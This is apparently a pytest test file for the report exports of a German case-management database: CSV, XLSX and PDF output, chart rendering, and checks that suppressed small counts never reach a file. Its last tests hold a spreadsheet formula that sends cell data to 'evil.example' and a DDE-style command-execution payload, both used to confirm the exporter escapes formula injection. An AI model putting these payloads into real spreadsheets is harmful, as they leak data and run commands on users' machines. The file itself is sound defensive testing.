"""The report's files (issue 7 item 4): CSV in the German Excel dialect, an XLSX workbook with a
cover and one sheet per table, a PDF of the whole report with its charts — built from a small
hand-made report, so a suppressed cell's value never reaches a file (issue 7 item 2)."""

from __future__ import annotations

import datetime as dt
import io

import pytest
from openpyxl import load_workbook

from kimdb.i18n import lazy_gettext as _l
from kimdb.reports import charts, exports
from kimdb.reports.model import Cell, Figure, Period, Report, Scope, ScopeKind, Table

SECRET = 3  # the true value behind the suppressed cell: must appear in no file


def cases_by_kind() -> Table:
    """Cases by kind and stage: one cell of 3 persons suppressed, its partner too (secondary)."""
    return Table(
        key="cases_by_kind",
        title="Fälle nach Art und Phase",
        row_header="Art",
        columns=["Erstberatung", "Abgeschlossen"],
        rows=[
            ("Case Management", [Cell(12), Cell(None, suppressed=True)]),
            ("Kurzberatung", [Cell(20), Cell(None, suppressed=True)]),
        ],
        row_totals=[Cell(None, suppressed=True), Cell(None, suppressed=True)],
        column_totals=[Cell(32), Cell(10), Cell(42)],
        unit="Fälle",
        note="Offene Fälle am Periodenende.",
    )


def caseload() -> Table:
    """A table of averages (not persons): decimal values."""
    return Table(
        key="caseload_per_fte",
        title="Fallzahl je VZÄ: Organisationen im Kreis mit sehr langem Namen",
        row_header="Organisation",
        columns=["offene Fälle je VZÄ"],
        rows=[
            ("KI Testkreis", [Cell(54.25, persons=False, basis=40)]),
            ("Caritas", [Cell(48.0, persons=False, basis=30)]),
        ],
    )


@pytest.fixture()
def report() -> Report:
    return Report(
        scope=Scope(ScopeKind.MUNICIPALITY, 3, "Kreis Warendorf"),
        period=Period(dt.date(2026, 1, 1), dt.date(2026, 12, 31), "2026"),
        created_at=dt.datetime(2026, 7, 1, 10, 30, tzinfo=dt.UTC),
        min_cell=5,
        figures=[Figure("cm_share", "Anteil Case Management", Cell(0.5, persons=False), "%")],
        tables=[cases_by_kind(), caseload()],
    )


def test_csv_is_german_excel_dialect(report):
    data = exports.to_csv(report, report.table("cases_by_kind"))
    assert data.startswith(b"\xef\xbb\xbf")  # UTF-8 byte order mark
    text = data[3:].decode("utf-8")
    lines = text.split("\r\n")
    assert "\n" not in text.replace("\r\n", "")  # CRLF only
    assert "Art;Erstberatung;Abgeschlossen;Summe" in lines
    assert "Case Management;12;< 5;< 5" in lines
    assert "Summe;32;10;42" in lines
    assert "Fälle nach Art und Phase" in lines[0]


def test_csv_writes_a_decimal_comma(report):
    text = exports.to_csv(report, report.table("caseload_per_fte")).decode("utf-8-sig")
    assert "KI Testkreis;54,2" in text or "KI Testkreis;54,3" in text
    assert "Caritas;48\r\n" in text
    assert "54.2" not in text


def test_xlsx_has_a_cover_and_one_sheet_per_table_with_numbers(report):
    book = load_workbook(io.BytesIO(exports.to_xlsx(report)))
    assert book.sheetnames[0] == "Deckblatt"
    assert len(book.sheetnames) == 1 + len(report.tables)
    assert all(len(name) <= 31 for name in book.sheetnames)
    cover = [
        [c for c in row if c is not None] for row in book["Deckblatt"].iter_rows(values_only=True)
    ]
    assert ["Bereich", "Kreis Warendorf"] in cover
    assert ["Zeitraum", "2026"] in cover
    assert ["Erstellt am", "01.07.2026 12:30"] in cover
    assert any("weniger als 5 Personen" in str(v) for row in cover for v in row)
    sheet = book[book.sheetnames[1]]
    rows = list(sheet.iter_rows(values_only=True))
    assert ("Art", "Erstberatung", "Abgeschlossen", "Summe") in rows
    assert ("Case Management", 12, "< 5", "< 5") in rows
    assert ("Summe", 32, 10, 42) in rows
    header = next(r for r in sheet.iter_rows() if r[0].value == "Art")
    assert all(c.font.bold for c in header)
    assert sheet.column_dimensions["A"].width >= len("Case Management")
    averages = list(book[book.sheetnames[2]].iter_rows(values_only=True))
    assert ("KI Testkreis", 54.25) in averages


def test_sheet_names_are_short_unique_and_legal():
    tables = [caseload(), caseload(), cases_by_kind()]
    tables[2].title = "Deckblatt"
    tables[0].title = "Fallzahl: je VZÄ / Team [alle]"
    names = exports.sheet_names(tables)
    assert len(set(n.lower() for n in names)) == 3
    assert all(len(n) <= 31 for n in names)
    assert not any(ch in n for n in names for ch in "[]:*?/\\")
    assert names[2] != "Deckblatt"


def test_pdf_holds_cover_tables_and_charts(report):
    data = exports.to_pdf(report, compress=False)
    assert data.startswith(b"%PDF")
    assert len(data) > 5000


def test_no_file_reveals_the_suppressed_value(report):
    csv_text = exports.to_csv(report, report.table("cases_by_kind")).decode("utf-8-sig")
    assert f";{SECRET};" not in csv_text and f";{SECRET}\r" not in csv_text
    book = load_workbook(io.BytesIO(exports.to_xlsx(report)))
    values = [v for ws in book for row in ws.iter_rows(values_only=True) for v in row]
    assert SECRET not in values


def test_chart_draws_no_bar_for_a_suppressed_row():
    table = Table(
        key="needs",
        title="Bedarfe nach Handlungsfeld",
        row_header="Handlungsfeld",
        columns=["Bedarfe"],
        rows=[("Wohnen <&>", [Cell(12)]), ("Gesundheit", [Cell(None, suppressed=True)])],
    )
    svg = charts.table_chart(table, 5)
    assert 'role="img"' in svg and 'aria-label="Bedarfe nach Handlungsfeld"' in svg
    assert svg.count('class="chart-bar"') == 1
    assert "&lt; 5" in svg
    assert "Wohnen &lt;&amp;&gt;" in svg
    assert "style=" not in svg and "<script" not in svg


def test_no_chart_for_a_table_without_a_single_figure_per_row():
    wide = cases_by_kind()
    wide.row_totals = []
    assert charts.table_chart(wide, 5) is None


def test_file_names_are_ascii():
    assert (
        exports.safe_name("Kreis Warendorf · 1. Halbjahr 2026") == "kreis-warendorf-1-halbjahr-2026"
    )


FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Bericht öffnen")'


@pytest.mark.parametrize(
    ("value", "shown"),
    [
        (FORMULA, "'" + FORMULA),
        ("+49 2581 1234", "'+49 2581 1234"),
        ("-cmd|' /C calc'!A0", "'-cmd|' /C calc'!A0"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1+1", "'\t=1+1"),
        ("-3", "-3"),  # a number written as text stays a number
        ("+1,5", "+1,5"),
        ("< 5", "< 5"),
        ("Kreis Warendorf", "Kreis Warendorf"),
        (42, 42),
        (_l("=%(name)s", name="SUMME(A1)"), "'=SUMME(A1)"),  # a translated text, as text
    ],
)
def test_spreadsheet_text_keeps_formulas_from_running(value, shown):
    assert exports.spreadsheet_text(value) == shown


def test_an_organisation_named_like_a_formula_is_text_in_csv_and_xlsx(report):
    """An administrator can name an organisation "=HYPERLINK(…)"; the scope's name is written
    into every file: it must stay text, never a formula a spreadsheet runs (OWASP)."""
    report.scope = Scope(ScopeKind.ORGANISATION, 7, FORMULA)
    lines = exports.to_csv(report, report.tables[0]).decode("utf-8-sig").split("\r\n")
    assert lines[1].startswith("\"'=HYPERLINK(") or lines[1].startswith("'=HYPERLINK(")
    book = load_workbook(io.BytesIO(exports.to_xlsx(report)))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    assert book["Deckblatt"]["B2"].value == FORMULA  # shown as typed, as text
